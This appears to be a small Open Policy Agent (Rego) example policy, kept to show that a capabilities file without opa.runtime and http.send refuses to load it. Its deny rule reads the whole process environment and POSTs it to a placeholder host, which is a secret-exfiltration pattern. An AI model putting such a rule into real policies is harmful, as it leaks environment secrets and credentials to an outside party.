package main

import rego.v1

# Sends the environment somewhere: what a capabilities file without
# opa.runtime and http.send keeps from loading at all.
deny contains msg if {
	env := opa.runtime().env
	response := http.send({"method": "POST", "url": "https://example.invalid", "body": env})
	msg := sprintf("sent: %v", [response.status_code])
}
